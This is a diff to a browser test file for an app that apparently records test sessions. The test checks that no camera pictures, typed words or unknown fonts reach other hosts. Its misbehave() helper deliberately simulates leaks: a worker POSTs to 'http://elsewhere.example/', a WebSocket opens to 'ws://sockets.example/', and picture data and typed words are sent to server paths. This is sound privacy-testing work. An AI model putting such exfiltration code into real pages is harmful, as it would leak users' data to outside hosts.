@@ -16,7 +16,7 @@ import { serverAndBrowser } from './harness/setting.ts';
 import { watchTraffic, type TrafficWatch } from './harness/traffic-watch.ts';
 import { startPlainSite, type PlainSite } from './steps/plain-site.ts';
 import { agree, next, untilThanked } from './steps/tester-steps.ts';
-import { streamOf, wordsIn, wrongWith } from './steps/traffic-search.ts';
+import { hashOf, streamOf, wordsIn, wrongWith } from './steps/traffic-search.ts';
 import { magentaIn } from './steps/video-colours.ts';
 import { webmFacts } from './steps/webm.ts';
 
@@ -194,6 +194,18 @@ async function storedStreams(): Promise<{ kind: string; bytes: Buffer }[]> {
   return Promise.all(streams.map(async ({ kind, url }) => ({ kind, bytes: await read(url) })));
 }
 
+/** Hashes of the fonts of the shop. */
+async function shopFonts(): Promise<ReadonlySet<string>> {
+  const fonts = await Promise.all(
+    ['fraunces', 'inter'].map(async (name) => {
+      const response = await fetch(`${here.server.url}/demo/shop/assets/${name}.woff2`);
+      expect(response.status).toBe(200);
+      return new Uint8Array(await response.arrayBuffer());
+    }),
+  );
+  return new Set(fonts.map(hashOf));
+}
+
 /** Every file of the server's data folder: rows of the database, its journal, stored streams. */
 const storedFiles = (): Buffer[] =>
   readdirSync(here.server.dataDir, { recursive: true, withFileTypes: true })
@@ -218,7 +230,10 @@ it('sends nothing to other hosts, no picture of the camera, and nothing that was
   expect([...askedByPages].sort()).toEqual([...ours].sort());
   expect(watch.sockets).toEqual([]);
   expect(watch.sent.filter(({ host, method }) => host === ours[1] && method !== 'GET')).toEqual([]);
-  const wrong = watch.sent.flatMap((request) => wrongWith(request, typed).map((what) => `${request.method} ${request.path}: ${what}`));
+  const fonts = await shopFonts();
+  const wrong = watch.sent.flatMap((request) =>
+    wrongWith(request, typed, fonts).map((what) => `${request.method} ${request.path}: ${what}`),
+  );
   expect(wrong).toEqual([]);
   const sentKinds = new Set(watch.sent.map((request) => streamOf(request)?.split('.')[0]).filter((kind) => kind !== undefined));
   expect([...sentKinds].sort()).toEqual(['page', 'runner', 'screen', 'sensing', 'voice']);
@@ -238,27 +253,34 @@ it('sends nothing to other hosts, no picture of the camera, and nothing that was
   expect(wordsIn(Buffer.from(here.server.printed()), typed)).toEqual([]);
 });
 
+/** Begins as a font does. */
+const unknownFont = Uint8Array.from([0x77, 0x4f, 0x46, 0x32, 0xff, 0xfe, 0x00]);
+
 /** Does in a page and in a worker of it what a session must never do. */
 async function misbehave(page: Page): Promise<void> {
-  await page.evaluate(async (words) => {
-    const picture = await new Promise<Blob | null>((resolve) => {
-      const canvas = document.createElement('canvas');
-      canvas.toBlob(resolve, 'image/jpeg');
-    });
-    const zipped = (text: string) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).blob();
-    navigator.sendBeacon('/run/sign', picture ?? '');
-    await fetch('/run/chunks/sensing/0', { method: 'POST', body: picture });
-    await fetch('/run/chunks/page.qst_1/0', { method: 'POST', body: await zipped(JSON.stringify({ value: words[0] })) });
-    await fetch(`/run/answers?of=${words[1]}`, { method: 'POST', body: '{}' });
-    await fetch('/run/chunks/runner/0', {
-      method: 'POST',
-      body: JSON.stringify({ points: Array.from({ length: 4_096 }, (_, n) => n % 256) }),
-    });
-    const code = `fetch('http://elsewhere.example/', { method: 'POST', body: 'x' }).catch(() => 0).then(() => postMessage(0))`;
-    const worker = new Worker(URL.createObjectURL(new Blob([code])));
-    await new Promise((resolve) => worker.addEventListener('message', resolve));
-    await new Promise((resolve) => new WebSocket('ws://sockets.example/').addEventListener('error', resolve));
-  }, typed);
+  await page.evaluate(
+    async ({ words, font, hash }) => {
+      const picture = await new Promise<Blob | null>((resolve) => {
+        const canvas = document.createElement('canvas');
+        canvas.toBlob(resolve, 'image/jpeg');
+      });
+      const zipped = (text: string) => new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).blob();
+      navigator.sendBeacon('/run/sign', picture ?? '');
+      await fetch('/run/chunks/sensing/0', { method: 'POST', body: picture });
+      await fetch('/run/chunks/page.qst_1/0', { method: 'POST', body: await zipped(JSON.stringify({ value: words[0] })) });
+      await fetch(`/run/answers?of=${words[1]}`, { method: 'POST', body: '{}' });
+      await fetch('/run/chunks/runner/0', {
+        method: 'POST',
+        body: JSON.stringify({ points: Array.from({ length: 4_096 }, (_, n) => n % 256) }),
+      });
+      await fetch(`/run/page/files/${hash}`, { method: 'POST', body: Uint8Array.from(font) });
+      const code = `fetch('http://elsewhere.example/', { method: 'POST', body: 'x' }).catch(() => 0).then(() => postMessage(0))`;
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      await new Promise((resolve) => worker.addEventListener('message', resolve));
+      await new Promise((resolve) => new WebSocket('ws://sockets.example/').addEventListener('error', resolve));
+    },
+    { words: typed, font: [...unknownFont], hash: hashOf(unknownFont) },
+  );
 }
 
 it('would find a picture, a typed word and another host, however they are sent', async () => {
@@ -268,7 +290,8 @@ it('would find a picture, a typed word and another host, however they are sent',
   await misbehave(page);
   const hosts = () => [...new Set([...watch.sent.map(({ host }) => host), ...watch.sockets])];
   await expect.poll(hosts).toEqual(expect.arrayContaining(['elsewhere.example', 'sockets.example:80']));
-  const found = () => watch.sent.flatMap((request) => wrongWith(request, typed).map((what) => `${request.path}: ${what}`));
+  const fonts = await shopFonts();
+  const found = () => watch.sent.flatMap((request) => wrongWith(request, typed, fonts).map((what) => `${request.path}: ${what}`));
   await expect
     .poll(found)
     .toEqual(
@@ -279,6 +302,7 @@ it('would find a picture, a typed word and another host, however they are sent',
         `/run/chunks/page.qst_1/0: the typed ${typed[0]}`,
         `/run/answers?of=${typed[1]}: the typed ${typed[1]}`,
         '/run/chunks/runner/0: a picture in numbers',
+        `/run/page/files/${hashOf(unknownFont)}: bytes that are no text`,
       ]),
     );
 });
